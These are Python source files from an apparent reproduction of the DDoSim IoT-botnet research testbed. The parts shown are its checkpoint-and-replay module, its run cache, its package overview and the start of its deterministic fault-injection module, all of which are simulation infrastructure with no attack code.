  differ.  Replay under the determinism contract (see DESIGN.md) is
  what makes the resumed run's result JSON and metrics snapshot
  byte-identical to an uninterrupted run.

Barrier events are engineered to be invisible in results: they are all
scheduled up-front (one uniform seq shift that cannot reorder ties),
they draw no randomness, mutate no simulation state, and hand back the
``events_executed`` slot they consume.  ``--checkpoint-every`` is
therefore a harness knob, not part of :class:`SimulationConfig` — cache
keys and result bytes are unaffected.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import signal
import tempfile
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.cache import code_salt

CHECKPOINT_VERSION = 1
CHECKPOINT_PREFIX = "checkpoint-"
DEFAULT_CHECKPOINT_DIR = ".repro-checkpoints"

_CHECKPOINT_NAME = re.compile(r"^checkpoint-(\d+)\.json$")

#: recursion guard for argument description
_MAX_DESCRIBE_DEPTH = 4


class CheckpointError(RuntimeError):
    """A checkpoint could not be written, read, or resumed from."""


class CheckpointDivergence(CheckpointError):
    """Replay state stopped matching a stored checkpoint fingerprint."""

    def __init__(self, tick: int, subsystems: List[str]):
        self.tick = tick
        self.subsystems = list(subsystems)
        super().__init__(
            f"replay diverged from checkpoint tick {tick} in subsystem(s): "
            + ", ".join(self.subsystems)
        )


# ----------------------------------------------------------------------
# Fingerprinting
# ----------------------------------------------------------------------
def state_digest(payload) -> str:
    """SHA-256 over the canonical JSON encoding of ``payload``.

    ``repr`` floats round-trip exactly under :func:`json.dumps`, so two
    states digest equal iff every float/int/str in them is identical.
    """
    encoded = json.dumps(payload, sort_keys=True, default=str)
    return hashlib.sha256(encoded.encode("utf-8")).hexdigest()


def _rng_token(rng) -> Optional[str]:
    """Compact digest of one random.Random's full Mersenne state."""
    if rng is None:
        return None
    return hashlib.sha256(repr(rng.getstate()).encode("utf-8")).hexdigest()


def _describe(value, depth: int = 0):
    """A JSON-able, *deterministic* description of one scheduled-event
    argument.

    ``Packet.uid`` comes from a process-global counter, so packets are
    described by their deterministic shape (size, count, spacing) and
    never by identity.  Unknown objects degrade to ``[type, name]`` —
    enough to catch a different object showing up at the same slot.
    """
    if value is None or isinstance(value, (bool, int, float, str)):
        return value
    if depth >= _MAX_DESCRIBE_DEPTH:
        return type(value).__name__
    if isinstance(value, (list, tuple)):
        return [_describe(item, depth + 1) for item in value]
    from repro.netsim.packet import Packet

    if isinstance(value, Packet):
        return [
            "pkt",
            value.size,
            getattr(value, "count", 1),
            getattr(value, "spacing", 0.0),
        ]
    name = getattr(value, "name", None)
    if isinstance(name, str):
        return [type(value).__name__, name]
    return [type(value).__name__, str(value) if isinstance(value, type) else ""]


def _scheduler_entries(sim) -> List[list]:
    """The pending event queue as ``[time, seq, cancelled, site, args]``
    rows in total (time, seq) order — tombstones included, because a
    cancelled-but-not-compacted entry still shifts heap internals."""
    from repro.obs.profiler import site_of

    entries = []
    for event in sim.checkpoint_events():
        args = [_describe(arg) for arg in event.args] if event.args else []
        entries.append(
            [
                event.time,
                event.seq,
                1 if event.cancelled else 0,
                site_of(event.callback) if event.callback is not None else "",
                args,
            ]
        )
    entries.sort(key=lambda row: (row[0], row[1]))
    return entries


def capture_fingerprint(ddosim) -> Dict[str, str]:
    """Per-subsystem content hashes of one DDoSim's complete live state.

    Keys are stable subsystem names; a resumed run compares each key
    independently so a divergence report names the layer that drifted.
    """
    sim = ddosim.sim
    fingerprint: Dict[str, str] = {}

    fingerprint["clock"] = state_digest(
        [sim.now, sim.events_executed, sim._seq, sim.pending_events]
    )
    fingerprint["scheduler"] = state_digest(_scheduler_entries(sim))
    fingerprint["rng"] = state_digest(
        [[name, _rng_token(rng)] for name, rng in ddosim.named_rngs()]
    )

    star = ddosim.star
    fingerprint["network"] = state_digest(
        star.checkpoint_state() if hasattr(star, "checkpoint_state") else []
    )

    engine = ddosim.flow_engine
    fingerprint["flows"] = state_digest(
        engine.checkpoint_state() if engine is not None else []
    )

    attacker = ddosim.attacker
    fingerprint["botnet"] = state_digest(
        {
            "cnc": attacker.cnc.checkpoint_state(),
            "exploits_delivered": attacker.exploits_delivered,
            "leaks_harvested": attacker.leaks_harvested,
        }
    )
    fingerprint["devs"] = state_digest(ddosim.devs.checkpoint_state())

    injector = ddosim.fault_injector
    fingerprint["faults"] = state_digest(
        injector.checkpoint_state() if injector is not None else []
    )

    fingerprint["sink"] = state_digest(ddosim.tserver.sink.checkpoint_state())
    fingerprint["containers"] = state_digest(
        [
            [name, container.state, container.memory_bytes()]
            for name, container in ddosim.runtime.containers.items()
        ]
    )
    fingerprint["metrics"] = state_digest(ddosim.obs.metrics.snapshot())
    spans = ddosim.obs.spans
    if getattr(spans, "enabled", False):
        fingerprint["spans"] = state_digest(spans.canonical_json())
    return fingerprint


def diff_fingerprints(expected: Dict[str, str],
                      actual: Dict[str, str]) -> List[str]:
    """Subsystem names whose hashes differ (or exist on one side only)."""
    names = set(expected) | set(actual)
    return sorted(
        name for name in names if expected.get(name) != actual.get(name)
    )


# ----------------------------------------------------------------------
# Checkpoint files
# ----------------------------------------------------------------------
def checkpoint_path(directory: str, tick: int) -> str:
    return os.path.join(directory, f"{CHECKPOINT_PREFIX}{tick}.json")


def write_checkpoint(directory: str, payload: dict) -> str:
    """Atomically persist one checkpoint payload (mkstemp + rename, the
    cache blob-store discipline: readers only ever see complete files)."""
    os.makedirs(directory, exist_ok=True)
    path = checkpoint_path(directory, payload["tick"])
    fd, temp_path = tempfile.mkstemp(
        dir=directory, prefix=".checkpoint-", suffix=".tmp"
    )
    try:
        with os.fdopen(fd, "w") as handle:
            json.dump(payload, handle, sort_keys=True, separators=(",", ":"))
        os.replace(temp_path, path)
    except BaseException:
        try:
            os.unlink(temp_path)
        except OSError:
            pass
        raise
    return path


def load_checkpoint(path: str) -> dict:
    """Read and integrity-check one checkpoint file."""
    try:
        with open(path) as handle:
            payload = json.load(handle)
    except (OSError, ValueError) as exc:
        raise CheckpointError(f"unreadable checkpoint {path}: {exc}") from exc
    version = payload.get("version")
    if version != CHECKPOINT_VERSION:
        raise CheckpointError(
            f"{path}: checkpoint version {version!r} != {CHECKPOINT_VERSION}"
        )
    fingerprint = payload.get("fingerprint")
    if not isinstance(fingerprint, dict) or payload.get("root") != state_digest(
        fingerprint
    ):
        raise CheckpointError(f"{path}: fingerprint root hash mismatch")
    return payload


def list_checkpoints(directory: str) -> List[Tuple[int, str]]:
    """All ``checkpoint-<tick>.json`` files in ``directory``, by tick."""
    found = []
    try:
        names = os.listdir(directory)
    except OSError:
        return []
    for name in names:
        match = _CHECKPOINT_NAME.match(name)
        if match is not None:
            found.append((int(match.group(1)), os.path.join(directory, name)))
    found.sort()
    return found


def latest_checkpoint(source: str) -> str:
    """Resolve ``source`` (a checkpoint file or a directory of them) to
    the newest checkpoint file path."""
    if os.path.isdir(source):
        checkpoints = list_checkpoints(source)
        if not checkpoints:
            raise CheckpointError(f"no checkpoint-*.json files in {source}")
        return checkpoints[-1][1]
    if os.path.isfile(source):
        return source
    raise CheckpointError(f"no such checkpoint file or directory: {source}")


# ----------------------------------------------------------------------
# Writer
# ----------------------------------------------------------------------
class CheckpointWriter:
    """Schedules result-neutral checkpoint barriers into one run.

    All barrier events are armed *before* ``run()`` so the only effect on
    the event stream is one uniform seq shift — same-timestamp ties keep
    their relative order, and :meth:`_tick` compensates the one
    ``events_executed`` slot each barrier consumes.  ``expected`` maps
    tick → stored fingerprint for replay verification; ``kill_after``
    makes the process SIGKILL itself right after writing that tick (the
    chaos harness's deterministic mid-flight kill).
    """

    def __init__(self, directory: str, every: float, *,
                 expected: Optional[Dict[int, Dict[str, str]]] = None,
                 kill_after: Optional[int] = None):
        if every <= 0:
            raise ValueError(f"checkpoint interval must be > 0, got {every!r}")
        self.directory = directory
        self.every = float(every)
        self.expected = dict(expected or {})
        self.kill_after = kill_after
        #: ticks written this run, in order
        self.written: List[int] = []
        #: ticks whose fingerprints matched a stored checkpoint
        self.verified: List[int] = []
        self._ddosim = None

    def arm(self, ddosim) -> "CheckpointWriter":
        """Schedule every barrier below ``sim_duration`` (ticks past the
        orchestrator's early stop simply never fire)."""
        self._ddosim = ddosim
        os.makedirs(self.directory, exist_ok=True)
        tick = 1
        while tick * self.every < ddosim.config.sim_duration:
            ddosim.sim.schedule_at(tick * self.every, self._tick, tick)
            tick += 1
        return self

    def _tick(self, tick: int) -> None:
        ddosim = self._ddosim
        sim = ddosim.sim
        # Result-neutrality: give back the events_executed slot this
        # barrier consumed before any state is read.
        sim.events_executed -= 1
        fingerprint = capture_fingerprint(ddosim)
        expected = self.expected.get(tick)
        if expected is not None:
            mismatched = diff_fingerprints(expected, fingerprint)
            if mismatched:
                raise CheckpointDivergence(tick, mismatched)
            self.verified.append(tick)
        payload = {
            "version": CHECKPOINT_VERSION,
            "code_salt": code_salt(),
            "config": _config_dict(ddosim.config),
            "every": self.every,
            "tick": tick,
            "t": sim.now,
            "events_executed": sim.events_executed,
            "fingerprint": fingerprint,
            "root": state_digest(fingerprint),
        }
        write_checkpoint(self.directory, payload)
        self.written.append(tick)
        recorder = getattr(sim.obs, "recorder", None)
        if recorder is not None and recorder.enabled:
            recorder.note("checkpoint.write", sim.now, tick=tick)
        if self.kill_after is not None and tick == self.kill_after:
            # Chaos harness hook: die the hardest possible way, exactly
            # one event after the checkpoint hit disk.
            os.kill(os.getpid(), signal.SIGKILL)


def _config_dict(config) -> dict:
    from repro.serialization import config_to_dict

    return config_to_dict(config)


# ----------------------------------------------------------------------
# Restore
# ----------------------------------------------------------------------
@dataclass
class ResumedRun:
    """A completed :func:`resume_run`: the rebuilt DDoSim, its result,
    the (re-armed) writer and the checkpoint that anchored the resume."""

    ddosim: object
    result: object
    writer: CheckpointWriter
    checkpoint: dict = field(repr=False)


def resume_run(source: str, *, observatory=None,
               kill_after: Optional[int] = None) -> ResumedRun:
    """Resume a run from its newest checkpoint via verified replay.

    Rebuilds the exact :class:`SimulationConfig` stored in the
    checkpoint, replays deterministically from t=0, and checks the live
    fingerprint against *every* stored checkpoint up to the resume
    anchor — so a replay that drifts fails loudly (and names the
    subsystem) instead of silently producing different bytes.  Later
    barriers keep writing fresh checkpoints, making resume restartable.

    Checkpoints written by the sharded engine carry a ``shards`` count;
    their rank-prefixed fingerprint trees only compose identically under
    the same partitioning, so the resume replays through
    :func:`repro.netsim.shard.run_sharded` at that shard count.
    """
    path = latest_checkpoint(source)
    anchor = load_checkpoint(path)
    salt = code_salt()
    if anchor.get("code_salt") != salt:
        raise CheckpointError(
            f"{path}: written by different repro code "
            f"(salt {anchor.get('code_salt', '?')[:12]} != {salt[:12]}); "
            "replay-based resume is only valid against identical code"
        )
    from repro.core.framework import DDoSim
    from repro.serialization import config_from_dict

    config = config_from_dict(anchor["config"])
    directory = os.path.dirname(os.path.abspath(path))
    expected: Dict[int, Dict[str, str]] = {}
    for tick, checkpoint_file in list_checkpoints(directory):
        if tick > anchor["tick"]:
            continue
        stored = load_checkpoint(checkpoint_file)
        expected[tick] = stored["fingerprint"]
    shards = anchor.get("shards", 1)
    if shards > 1:
        from repro.netsim.shard import run_sharded

        sharded = run_sharded(
            config, shards, observatory=observatory,
            checkpoint_dir=directory, checkpoint_every=anchor["every"],
            kill_after=kill_after, expected_fingerprints=expected,
        )
        return ResumedRun(
            ddosim=sharded.ddosim, result=sharded.result,
            writer=sharded.writer, checkpoint=anchor,
        )
    ddosim = DDoSim(config, observatory=observatory)
    writer = CheckpointWriter(
        directory, anchor["every"], expected=expected, kill_after=kill_after
    )
    writer.arm(ddosim)
    result = ddosim.run()
    return ResumedRun(
        ddosim=ddosim, result=result, writer=writer, checkpoint=anchor
    )
