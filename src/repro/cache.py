"""repro.cache — content-addressed, on-disk cache of finished runs.

The paper's deliverables are sweeps: Figures 2–4 and Table I rerun the
same simulation over a (devices x duration x churn) grid, and between
iterations most grid points are unchanged.  This module makes re-running
a sweep cost only its *changed* points: every completed run is stored
under a fingerprint of everything that could alter its outcome, and the
sweep engine (:func:`repro.parallel.run_cached`) serves fingerprint hits
straight from disk without building a simulator at all.

**Key derivation.**  A run's key is the SHA-256 of the canonical config
JSON (:func:`repro.serialization.config_to_canonical_json` — sorted
keys, tuples normalised, fault plans embedded) plus a *code salt*: a
hash over every ``repro`` source file.  Simulation outcomes depend only
on (config, code) — per-run RNGs are seeded from ``config.seed`` — so
two runs with equal keys are bit-identical and any edit under
``src/repro`` invalidates the whole store at once, which is cheap
insurance against serving results from a stale engine.

**Storage.**  JSON blobs under ``<root>/objects/<k[:2]>/<key>.json``,
each holding the config echo, the run's :class:`RunResult` list, its
metric snapshot, and any extra scalars a sweep wants to keep.  Writes go
to a temp file in the same directory and ``os.replace`` into place, so a
reader (or a parallel sweep in another process) never observes a partial
blob.  Eviction is LRU by file mtime — hits re-touch their blob — with a
byte-size cap enforced by :meth:`RunCache.gc`.

Hit/miss/store counts persist in ``<root>/stats.json`` so ``repro cache
stats`` can report the last sweep's hit rate after the process exits;
live counters also feed :mod:`repro.obs` (``cache_hits_total``,
``cache_misses_total``, the ``cache_bytes`` gauge, and ``cache.hit`` /
``cache.store`` trace events).
"""

from __future__ import annotations

import hashlib
import json
import os
import tempfile
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from repro.core.config import SimulationConfig
from repro.core.results import RunResult

#: default store location (relative to the invoking process's cwd)
DEFAULT_CACHE_DIR = ".repro-cache"
#: default LRU size cap: plenty for full published grids, small enough
#: to never matter on a laptop
DEFAULT_MAX_BYTES = 256 * 1024 * 1024

_BLOB_VERSION = 1


@dataclass
class CachedRun:
    """Everything one sweep point produced, in storable form.

    ``results`` holds one :class:`RunResult` for plain sweeps and two for
    Figure 4 points (DDoSim run + hardware twin); ``metrics`` is the
    run's ``MetricsRegistry.snapshot()``; ``extra`` carries any JSON
    scalars the sweep's row builder needs beyond the result itself
    (fault-injection counts, fleet memory, ...).
    """

    results: List[RunResult]
    metrics: Dict[str, dict] = field(default_factory=dict)
    extra: Dict[str, Any] = field(default_factory=dict)

    @property
    def result(self) -> RunResult:
        """The point's primary result (first entry)."""
        return self.results[0]


# ----------------------------------------------------------------------
# Fingerprinting
# ----------------------------------------------------------------------
_code_salt_cache: Dict[str, str] = {}


def code_salt() -> str:
    """Hash of every ``repro`` source file (memoised per process).

    Folded into each run key so editing the engine invalidates stored
    results instead of silently serving output the current code would
    no longer produce.
    """
    package_dir = os.path.dirname(os.path.abspath(__file__))
    cached = _code_salt_cache.get(package_dir)
    if cached is not None:
        return cached
    digest = hashlib.sha256()
    for directory, dirnames, filenames in sorted(os.walk(package_dir)):
        dirnames.sort()
        for filename in sorted(filenames):
            if not filename.endswith(".py"):
                continue
            path = os.path.join(directory, filename)
            digest.update(os.path.relpath(path, package_dir).encode())
            with open(path, "rb") as handle:
                digest.update(handle.read())
    salt = digest.hexdigest()
    _code_salt_cache[package_dir] = salt
    return salt


def run_key(config: SimulationConfig, salt: Optional[str] = None) -> str:
    """Content address for one run: SHA-256 over (canonical config
    JSON, code salt).  Equal configs under the same code hash equal."""
    from repro.serialization import config_to_canonical_json

    body = config_to_canonical_json(config)
    digest = hashlib.sha256()
    digest.update((salt if salt is not None else code_salt()).encode())
    digest.update(b"\x00")
    digest.update(body.encode())
    return digest.hexdigest()


# ----------------------------------------------------------------------
# The store
# ----------------------------------------------------------------------
class RunCache:
    """One on-disk run store plus this process's hit/miss session.

    Safe for concurrent use by independent processes: blob writes are
    atomic renames and readers tolerate (and clean up) torn or corrupt
    blobs by treating them as misses.
    """

    def __init__(
        self,
        root: str = DEFAULT_CACHE_DIR,
        max_bytes: int = DEFAULT_MAX_BYTES,
        observatory=None,
        salt: Optional[str] = None,
    ):
        self.root = root
        self.max_bytes = max_bytes
        self.salt = salt if salt is not None else code_salt()
        self.session_hits = 0
        self.session_misses = 0
        self.session_stores = 0
        obs = observatory
        if obs is None:
            from repro.obs import NULL_OBSERVATORY

            obs = NULL_OBSERVATORY
        self._tracer = obs.tracer
        self._hits_counter = obs.metrics.counter(
            "cache_hits_total", help="sweep points served from the run cache"
        )
        self._misses_counter = obs.metrics.counter(
            "cache_misses_total", help="sweep points that had to simulate"
        )
        self._bytes_gauge = obs.metrics.gauge(
            "cache_bytes", help="bytes stored in the run cache"
        )

    # -- paths ----------------------------------------------------------
    @property
    def objects_dir(self) -> str:
        return os.path.join(self.root, "objects")

    def _blob_path(self, key: str) -> str:
        return os.path.join(self.objects_dir, key[:2], f"{key}.json")

    @property
    def _stats_path(self) -> str:
        return os.path.join(self.root, "stats.json")

    # -- lookup / store -------------------------------------------------
    def key_for(self, config: SimulationConfig) -> str:
        return run_key(config, salt=self.salt)

    def describe(self, config: SimulationConfig) -> str:
        """Short (12-hex) key prefix for progress lines and telemetry —
        long enough to find the blob, short enough to read."""
        return self.key_for(config)[:12]

    def get(self, config: SimulationConfig) -> Optional[CachedRun]:
        """The stored run for ``config``, or ``None`` on a miss.

        A hit re-touches the blob (LRU recency) and deserializes without
        ever constructing a simulator — the whole point of the cache.
        """
        from repro.serialization import result_from_dict

        key = self.key_for(config)
        path = self._blob_path(key)
        try:
            with open(path, encoding="utf-8") as handle:
                blob = json.load(handle)
            if blob.get("version") != _BLOB_VERSION or blob.get("key") != key:
                raise ValueError("stale or foreign blob")
            run = CachedRun(
                results=[result_from_dict(r) for r in blob["results"]],
                metrics=blob.get("metrics", {}),
                extra=blob.get("extra", {}),
            )
        except FileNotFoundError:
            self._record_miss(key)
            return None
        except (ValueError, KeyError, TypeError, OSError):
            # Torn/corrupt/incompatible blob: drop it and recompute.
            try:
                os.unlink(path)
            except OSError:
                pass
            self._record_miss(key)
            return None
        try:
            os.utime(path)
        except OSError:
            pass
        self.session_hits += 1
        self._hits_counter.inc()
        self._tracer.emit("cache.hit", 0.0, key=key, results=len(run.results))
        return run

    def put(self, config: SimulationConfig, run: CachedRun) -> str:
        """Store one finished point atomically; returns its key.

        Write-temp-then-rename in the blob's own directory, so parallel
        writers of the *same* key race benignly (last rename wins, both
        blobs identical by construction) and readers never see a prefix.
        """
        from repro.serialization import config_to_dict, result_to_dict

        key = self.key_for(config)
        path = self._blob_path(key)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        blob = {
            "version": _BLOB_VERSION,
            "key": key,
            "config": config_to_dict(config),
            "results": [result_to_dict(r) for r in run.results],
            "metrics": run.metrics,
            "extra": run.extra,
        }
        fd, temp_path = tempfile.mkstemp(
            prefix=".tmp-", suffix=".json", dir=os.path.dirname(path)
        )
        try:
            with os.fdopen(fd, "w", encoding="utf-8") as handle:
                json.dump(blob, handle, sort_keys=True)
            os.replace(temp_path, path)
        except BaseException:
            try:
                os.unlink(temp_path)
            except OSError:
                pass
            raise
        self.session_stores += 1
        self._tracer.emit("cache.store", 0.0, key=key, results=len(run.results))
        self._bytes_gauge.set(float(self.total_bytes()))
        if self.max_bytes:
            self.gc()
        return key

    def _record_miss(self, key: str) -> None:
        self.session_misses += 1
        self._misses_counter.inc()
        self._tracer.emit("cache.miss", 0.0, key=key)

    # -- maintenance ----------------------------------------------------
    def _blobs(self) -> List[str]:
        found: List[str] = []
        for directory, _dirnames, filenames in os.walk(self.objects_dir):
            for filename in filenames:
                if filename.endswith(".json") and not filename.startswith("."):
                    found.append(os.path.join(directory, filename))
        return found

    def total_bytes(self) -> int:
        total = 0
        for path in self._blobs():
            try:
                total += os.path.getsize(path)
            except OSError:
                pass
        return total

    def gc(self, max_bytes: Optional[int] = None) -> int:
        """Evict least-recently-used blobs until under the size cap;
        returns how many were removed."""
        cap = self.max_bytes if max_bytes is None else max_bytes
        entries = []
        for path in self._blobs():
            try:
                stat = os.stat(path)
            except OSError:
                continue
            entries.append((stat.st_mtime, stat.st_size, path))
        total = sum(size for _mtime, size, _path in entries)
        evicted = 0
        for _mtime, size, path in sorted(entries):
            if total <= cap:
                break
            try:
                os.unlink(path)
            except OSError:
                continue
            total -= size
            evicted += 1
        self._bytes_gauge.set(float(total))
        return evicted

    def clear(self) -> int:
        """Remove every stored blob (stats survive); returns the count."""
        removed = 0
        for path in self._blobs():
            try:
                os.unlink(path)
                removed += 1
            except OSError:
                pass
        self._bytes_gauge.set(0.0)
        return removed

    # -- stats ----------------------------------------------------------
    def _load_stats(self) -> Dict[str, Any]:
        try:
            with open(self._stats_path, encoding="utf-8") as handle:
                stats = json.load(handle)
            if not isinstance(stats, dict):
                raise ValueError
            return stats
        except (OSError, ValueError):
            return {"hits": 0, "misses": 0, "stores": 0}

    def _persist_stats(self) -> None:
        """Fold this session's counters into ``stats.json`` atomically."""
        os.makedirs(self.root, exist_ok=True)
        stats = self._load_stats()
        stats["hits"] = int(stats.get("hits", 0)) + self.session_hits
        stats["misses"] = int(stats.get("misses", 0)) + self.session_misses
        stats["stores"] = int(stats.get("stores", 0)) + self.session_stores
        stats["last_sweep"] = self.session_summary()
        fd, temp_path = tempfile.mkstemp(
            prefix=".tmp-", suffix=".json", dir=self.root
        )
        try:
            with os.fdopen(fd, "w", encoding="utf-8") as handle:
                json.dump(stats, handle, indent=2, sort_keys=True)
            os.replace(temp_path, self._stats_path)
        except BaseException:
            # Same guard as put(): a ^C mid-write must not leave a
            # stray temp file behind, and stats.json keeps its last
            # complete contents (rename never happened).
            try:
                os.unlink(temp_path)
            except OSError:
                pass
            raise
        # The folded-in counts must not double when persisted again.
        self.session_hits = self.session_misses = self.session_stores = 0

    def commit_session(self) -> None:
        """Persist the session's hit/miss tallies (sweep engines call
        this once per sweep so ``repro cache stats`` reflects it)."""
        self._persist_stats()

    def session_summary(self) -> Dict[str, Any]:
        lookups = self.session_hits + self.session_misses
        return {
            "hits": self.session_hits,
            "misses": self.session_misses,
            "hit_rate": (self.session_hits / lookups) if lookups else 0.0,
        }

    def stats(self) -> Dict[str, Any]:
        """Everything ``repro cache stats`` prints: store shape plus
        persisted lifetime and last-sweep hit/miss counts."""
        persisted = self._load_stats()
        return {
            "dir": self.root,
            "entries": len(self._blobs()),
            "bytes": self.total_bytes(),
            "max_bytes": self.max_bytes,
            "hits": int(persisted.get("hits", 0)) + self.session_hits,
            "misses": int(persisted.get("misses", 0)) + self.session_misses,
            "stores": int(persisted.get("stores", 0)) + self.session_stores,
            "last_sweep": persisted.get("last_sweep", self.session_summary()),
        }

