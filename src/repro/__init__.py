"""repro — a full reproduction of DDoSim (DSN 2023).

"Creating a Large-scale Memory Error IoT Botnet Using NS3DockerEmulator"
(Obaidat, Kahn, Tavakoli, Sridhar) presents DDoSim: a testbed that
splices Docker containers running real vulnerable IoT binaries into an
NS-3 simulated network, recruits them into a Mirai botnet via ROP
exploits against memory-error CVEs, and measures the resulting DDoS
attacks under IoT churn.

This package rebuilds the whole stack in pure Python:

* :mod:`repro.netsim` — the discrete-event network simulator (NS-3 role);
* :mod:`repro.container` — the container runtime emulation (Docker role);
* :mod:`repro.memsafety` — address spaces, stack smashing, W^X, ASLR, ROP;
* :mod:`repro.binaries` — the vulnerable Connman/Dnsmasq analogues + userland;
* :mod:`repro.services` — DNS/DHCPv6/HTTP/telnet + the exploit builders;
* :mod:`repro.botnet` — the Mirai model (bot, C&C, floods, scanner);
* :mod:`repro.core` — DDoSim itself (components, churn, metrics, sweeps);
* :mod:`repro.cache` — content-addressed run cache for incremental sweeps;
* :mod:`repro.hardware` — the WiFi hardware-testbed model (validation);
* :mod:`repro.analysis` — the ML-detection and epidemic-model use cases.

Quickstart::

    from repro import DDoSim, SimulationConfig

    result = DDoSim(SimulationConfig(n_devs=25, seed=7)).run()
    print(result.recruitment.infection_rate)       # -> 1.0 (R2)
    print(result.attack.avg_received_kbps)         # Eq. 2 (R3)
"""

from repro.cache import CachedRun, RunCache
from repro.core.config import SimulationConfig
from repro.core.framework import DDoSim
from repro.core.resources import ResourceModel, ResourceReport
from repro.core.results import RunResult, format_table

__version__ = "1.0.0"

__all__ = [
    "CachedRun",
    "DDoSim",
    "ResourceModel",
    "RunCache",
    "ResourceReport",
    "RunResult",
    "SimulationConfig",
    "format_table",
    "__version__",
]
