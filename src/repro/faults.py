"""Deterministic fault injection: `FaultPlan` → `FaultInjector` → hooks.

The paper's only failure mode is IoT churn (§IV-A), hardwired into
:mod:`repro.core.churn`.  This module generalises it: a
:class:`FaultPlan` — programmatic or JSON, loadable via
``repro run --faults plan.json`` — schedules typed faults against named
targets, each drawn from a seeded RNG stream so identical (plan, seed)
pairs replay identical fault sequences.

Fault kinds:

* **Link faults** — ``link_down`` (administrative outage window),
  ``link_flap`` (repeated down/up cycles), ``link_degrade``
  (latency/loss/data-rate override window), ``partition`` (hard
  partition at the star router: the router-side device goes
  administratively down, a silent blackhole the host cannot observe).
* **Node/container faults** — ``crash`` (container stops, veth
  detaches), ``crash_restart`` (crash, then a fresh boot
  ``restart_after`` seconds later with the veth re-attached),
  ``memory_kill`` (the largest-RSS process is OOM-killed).
* **Service faults** — ``cnc_outage`` (the C&C daemon and its bot
  sessions die for ``duration`` seconds, then restart; bots re-recruit
  via their reconnect backoff), ``sink_stall`` (the TServer sink stops
  accounting for a window).
* **``churn``** — the paper's churn model expressed as a fault spec;
  with the same seed it reproduces ``config.churn`` runs exactly, so
  the published churn curves are the special case of a one-fault plan.

Administrative state is separate from churn state: a churn rejoin never
resurrects an admin-downed link, and clearing an admin fault restores
whatever churn last decided.  Everything emits through ``repro.obs``
(``fault.inject``/``fault.clear`` trace events, the
``faults_injected_total`` counter family, registered lazily so a run
with an empty plan leaves the metric snapshot untouched).
"""

from __future__ import annotations

import fnmatch
import json
import random
from dataclasses import dataclass, fields, replace
from typing import Dict, List, Optional, Tuple

FAULT_LINK_DOWN = "link_down"
FAULT_LINK_FLAP = "link_flap"
FAULT_LINK_DEGRADE = "link_degrade"
FAULT_PARTITION = "partition"
FAULT_CRASH = "crash"
FAULT_CRASH_RESTART = "crash_restart"
FAULT_MEMORY_KILL = "memory_kill"
FAULT_CNC_OUTAGE = "cnc_outage"
FAULT_SINK_STALL = "sink_stall"
FAULT_CHURN = "churn"

FAULT_KINDS = (
    FAULT_LINK_DOWN,
    FAULT_LINK_FLAP,
    FAULT_LINK_DEGRADE,
    FAULT_PARTITION,
    FAULT_CRASH,
    FAULT_CRASH_RESTART,
    FAULT_MEMORY_KILL,
    FAULT_CNC_OUTAGE,
    FAULT_SINK_STALL,
    FAULT_CHURN,
)

#: kinds whose target resolves to a host access link
_LINK_KINDS = (FAULT_LINK_DOWN, FAULT_LINK_FLAP, FAULT_LINK_DEGRADE, FAULT_PARTITION)
#: kinds whose target resolves to a container
_CONTAINER_KINDS = (FAULT_CRASH, FAULT_CRASH_RESTART, FAULT_MEMORY_KILL)
#: kinds whose *action* mutates rank-owned state under the sharded
#: engine (containers, the C&C daemon, the sink); link kinds replicate
#: cleanly on every rank and are never gated
_GATED_KINDS = _CONTAINER_KINDS + (FAULT_CNC_OUTAGE, FAULT_SINK_STALL)


class FaultPlanError(ValueError):
    """Malformed fault plan / spec."""


@dataclass
class FaultSpec:
    """One scheduled fault (possibly repeated, jittered, or sampled).

    ``target`` names a component (``dev003``, ``attacker``, ``tserver``)
    or an ``fnmatch`` glob over them (``dev*``); service faults and
    ``churn`` ignore it.  ``pick`` samples that many matching targets
    from the plan's seeded RNG stream, and ``probability`` (scaled by
    the plan's ``intensity``) arms each picked target independently —
    both draws come from the same stream, so replays are exact.
    """

    kind: str
    target: str = "*"
    #: injection time (simulation seconds); per-target jitter is added
    at: float = 0.0
    #: outage/degradation window length (0 = permanent; the restart of a
    #: ``crash_restart`` is governed by ``restart_after`` instead)
    duration: float = 0.0
    #: uniform [0, jitter) seeded start offset, drawn per target
    jitter: float = 0.0
    #: repetitions (flap cycles, repeated windows)
    count: int = 1
    #: spacing between repetition starts
    period: float = 0.0
    #: sample this many matching targets (None = all matches)
    pick: Optional[int] = None
    #: per-target arming probability, scaled by the plan intensity
    probability: float = 1.0
    # --- link_degrade overrides (None = leave the base value) ---------
    delay: Optional[float] = None
    loss_rate: Optional[float] = None
    data_rate_bps: Optional[float] = None
    # --- crash_restart ------------------------------------------------
    restart_after: float = 10.0
    # --- churn (mirrors SimulationConfig's churn block) ---------------
    mode: str = "dynamic"
    interval: float = 20.0
    rejoin_probability: float = 0.5
    phi: Tuple[float, float, float] = (0.16, 0.08, 0.04)

    def __post_init__(self) -> None:
        if self.kind not in FAULT_KINDS:
            raise FaultPlanError(
                f"fault kind must be one of {FAULT_KINDS}, got {self.kind!r}"
            )
        if self.at < 0:
            raise FaultPlanError(f"fault time must be >= 0, got {self.at}")
        if self.duration < 0 or self.jitter < 0 or self.period < 0:
            raise FaultPlanError("duration/jitter/period must be >= 0")
        if self.count < 1:
            raise FaultPlanError("count must be >= 1")
        if self.count > 1 and self.period <= 0:
            raise FaultPlanError("repeated faults need a positive period")
        if not 0.0 <= self.probability <= 1.0:
            raise FaultPlanError("probability outside [0, 1]")
        if self.pick is not None and self.pick < 1:
            raise FaultPlanError("pick must be >= 1 when given")
        if self.loss_rate is not None and not 0.0 <= self.loss_rate < 1.0:
            raise FaultPlanError("loss_rate override must be in [0, 1)")
        if self.restart_after < 0:
            raise FaultPlanError("restart_after must be >= 0")
        if self.kind == FAULT_CHURN and self.mode not in ("static", "dynamic"):
            raise FaultPlanError(
                f"churn fault mode must be 'static' or 'dynamic', got {self.mode!r}"
            )


@dataclass(frozen=True)
class FaultEvent:
    """One injected/cleared fault occurrence (the replayable sequence)."""

    time: float
    kind: str
    target: str
    action: str  # "inject" | "clear"


@dataclass
class FaultPlan:
    """An ordered set of fault specs plus a global intensity knob.

    ``intensity`` scales every spec's arming probability —
    ``run_fault_sweep`` sweeps it the way ``run_figure2`` sweeps churn;
    intensity 0 arms nothing and the run is bit-identical to a plain one.
    """

    faults: Tuple[FaultSpec, ...] = ()
    intensity: float = 1.0

    def __post_init__(self) -> None:
